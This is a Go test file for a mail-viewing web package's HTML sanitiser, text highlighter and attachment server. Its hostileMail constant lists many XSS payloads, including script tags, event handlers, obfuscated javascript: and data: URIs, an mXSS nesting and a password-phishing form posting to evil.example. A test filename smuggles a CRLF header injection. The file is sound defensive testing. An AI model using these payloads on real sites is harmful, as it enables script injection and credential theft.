package web

import (
	"bytes"
	"net/http/httptest"
	"regexp"
	"strings"
	"testing"
	"time"
)

// hostileMail is email HTML written to attack a reviewer's browser.
const hostileMail = `<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<style>body { background: url(https://evil.example/track.png) } p { width: expression(alert(1)) }</style>
<link rel="stylesheet" href="https://evil.example/x.css">
<script>alert('script')</script>
</head><body onload="alert('onload')">
<p style="background:url('https://evil.example/bg.png')">Dear requester, <b>our policy</b> is attached.</p>
<a href="javascript:alert('link')">click</a>
<a href="JaVaScRiPt&#58;alert('entity')">click2</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
<a href="https://example.org/policy.pdf" onclick="alert('click')">the policy</a>
<img src="http://evil.example/pixel.gif" alt="pixel">
<img src="//evil.example/pixel2.gif">
<img src="cid:logo@council.example" alt="logo">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="svg data">
<img src=x onerror="alert('onerror')">
<svg><script>alert('svg')</script><a xlink:href="javascript:alert(2)"><text>svg link</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph></table></mtext></math>
<form action="https://evil.example/steal"><input name="password" type="password"><button>Log in again</button></form>
<iframe src="https://evil.example/"></iframe>
<object data="https://evil.example/x.swf"></object>
<table><tr><td colspan="2" style="color:red">cell</td></tr></table>
</body></html>`

func TestSanitizeHTMLLeavesHostileMailInert(t *testing.T) {
	got := string(SanitizeHTML(hostileMail))
	for _, bad := range []string{
		"<script", "alert(", "javascript:", "onload", "onclick", "onerror", "<meta", "refresh", "<base",
		"<style", "url(", "expression", "<link", "<svg", "<math", "<form", "<input", "<button", "<iframe",
		"<object", "evil.example", "style=", "data:text", "svg+xml", "xlink",
	} {
		if strings.Contains(strings.ToLower(got), strings.ToLower(bad)) {
			t.Errorf("sanitised output contains %q:\n%s", bad, got)
		}
	}
	for _, good := range []string{
		"Dear requester, <b>our policy</b> is attached.",
		`href="https://example.org/policy.pdf"`,
		`rel="nofollow noreferrer"`,
		`src="cid:logo@council.example"`,
		`src="data:image/png;base64,iVBORw0KGgo="`,
		`<td colspan="2">cell</td>`,
	} {
		if !strings.Contains(got, good) {
			t.Errorf("sanitised output lost %q:\n%s", good, got)
		}
	}
	// Every img left has a src inside the message or no src at all.
	for _, src := range regexp.MustCompile(`src="([^"]*)"`).FindAllStringSubmatch(got, -1) {
		if !strings.HasPrefix(src[1], "cid:") && !strings.HasPrefix(src[1], "data:image/png") {
			t.Errorf("image source kept: %s", src[1])
		}
	}
}

func TestTextHTMLEscapesHostileTextAndHighlights(t *testing.T) {
	text := "Our <b>Recording</b> policy: <script>alert('record')</script>\n" +
		"Parents may not record meetings & must ask consent.\fPage two: \"covert\" recording of a mobile\n  phone call; &lt;record&gt; onerror=x"
	h := NewHighlighter([]string{"record", "recording", "consent", "covert", "mobile phone", "lt"})
	got := string(TextHTML(text, h))
	for _, bad := range []string{"<b>", "<script", "</script>", "&lt;record&gt;", "<lt>"} {
		if strings.Contains(got, bad) {
			t.Errorf("output contains %q:\n%s", bad, got)
		}
	}
	for _, want := range []string{
		"Our &lt;b&gt;<mark>Recording</mark>&lt;/b&gt; policy: &lt;script&gt;alert(&#39;<mark>record</mark>&#39;)&lt;/script&gt;",
		"may not <mark>record</mark> meetings &amp; must ask <mark>consent</mark>.",
		"<hr class=\"page-break\" aria-label=\"page 2\">Page two: &#34;<mark>covert</mark>&#34; <mark>recording</mark> of a <mark>mobile\n  phone</mark> call;",
		// "lt" matches the text's own "lt", never the one in an escape.
		"&amp;<mark>lt</mark>;<mark>record</mark>&amp;gt;",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("output lacks %q:\n%s", want, got)
		}
	}
	// Every tag left is one of ours.
	for _, tag := range regexp.MustCompile(`<[^>]*>`).FindAllString(got, -1) {
		if tag != "<mark>" && tag != "</mark>" && !strings.HasPrefix(tag, `<hr class="page-break"`) {
			t.Errorf("foreign tag %s", tag)
		}
	}
	if plain := string(TextHTML("<i>x</i>", nil)); plain != "&lt;i&gt;x&lt;/i&gt;" {
		t.Errorf("no highlighter: %s", plain)
	}
}

func TestServeAttachmentDownloadsWithSafeNameAndType(t *testing.T) {
	for _, c := range []struct {
		name, declared, wantType, wantDisp string
	}{
		{"policy.pdf", "application/pdf", "application/pdf", `attachment; filename="policy.pdf"; filename*=UTF-8''policy.pdf`},
		{"Polisi Cofnodi – Cyngor Sir Ddinbych.pdf", "application/pdf; name=x", "application/pdf",
			`attachment; filename="Polisi Cofnodi _ Cyngor Sir Ddinbych.pdf"; filename*=UTF-8''Polisi%20Cofnodi%20%E2%80%93%20Cyngor%20Sir%20Ddinbych.pdf`},
		{"evil.html", "text/html", "application/octet-stream", `attachment; filename="evil.html"; filename*=UTF-8''evil.html`},
		{"a.svg", "image/svg+xml", "application/octet-stream", `attachment; filename="a.svg"; filename*=UTF-8''a.svg`},
		{`..\..\"x";.bat` + "\r\nX-Evil: 1", "TEXT/PLAIN", "text/plain; charset=utf-8",
			`attachment; filename="_x__.bat__X-Evil_ 1"; filename*=UTF-8''%22x%22%3B.bat%0D%0AX-Evil%3A%201`},
		{"list.csv", `text/csv; charset="Windows-1252"`, "text/csv; charset=windows-1252", `attachment; filename="list.csv"; filename*=UTF-8''list.csv`},
		{"n.txt", `text/plain; charset="x\"; evil"`, "text/plain; charset=utf-8", `attachment; filename="n.txt"; filename*=UTF-8''n.txt`},
		{"", "nonsense", "application/octet-stream", `attachment; filename="attachment"; filename*=UTF-8''attachment`},
	} {
		w := httptest.NewRecorder()
		ServeAttachment(w, httptest.NewRequest("GET", "/x", nil), c.name, c.declared, time.Time{}, bytes.NewReader([]byte("%PDF-1.4")))
		h := w.Header()
		if h.Get("Content-Type") != c.wantType || h.Get("Content-Disposition") != c.wantDisp ||
			h.Get("X-Content-Type-Options") != "nosniff" || !strings.HasPrefix(h.Get("Content-Security-Policy"), "sandbox") {
			t.Errorf("%q %q:\n type %q\n disp %q\n want %q", c.name, c.declared, h.Get("Content-Type"), h.Get("Content-Disposition"), c.wantDisp)
		}
		if w.Body.String() != "%PDF-1.4" {
			t.Errorf("%q: body %q", c.name, w.Body)
		}
	}
}
